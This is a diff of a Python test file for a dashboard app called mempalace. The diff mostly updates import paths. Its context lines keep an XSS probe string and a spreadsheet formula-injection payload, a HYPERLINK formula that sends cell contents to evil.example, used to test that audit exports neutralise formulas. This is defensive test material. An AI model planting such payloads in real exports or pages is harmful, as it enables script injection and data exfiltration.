@@ -37,11 +37,11 @@ from dashboard.hits import opened_key
 from dashboard.render import md
 from mempalace import Palace
 from mempalace.config import Settings
-from mempalace.formats import FORMATS
+from mempalace.formats.registry import FORMATS
 from mempalace.graph import graph_stats
 from mempalace.ingest import ingest
-from mempalace.store import SEQ_KEY
-from mempalace.sync import new_stamp
+from mempalace.store.chroma import SEQ_KEY
+from mempalace.catalog.sync import new_stamp
 from _apptest import APP, charts_in, closed_cards, counts_in, start, started
 
 SCRIPT = "<script>alert(1)</script>"
@@ -170,7 +170,7 @@ def test_empty_palace_shows_a_friendly_start(home):
 
 
 def test_the_demo_button_fills_the_palace_and_shows_the_overview(home):
-    from mempalace.demo import DEMO_WINGS
+    from mempalace.ingest.demo import DEMO_WINGS
 
     at = start()
     at.main.button[0].click().run()
@@ -759,7 +759,7 @@ def test_ingest_offers_the_existing_room_a_typed_room_probably_means(story):
 
 
 def test_the_audit_export_never_hands_a_spreadsheet_a_formula(story, settings, downloads):
-    from mempalace.access import Actor
+    from mempalace.access.rules import Actor
 
     with Palace.open(settings=settings) as palace:
         palace.access.record(Actor('=HYPERLINK("http://evil.example/?"&A1,"open")', "mcp"), "add",
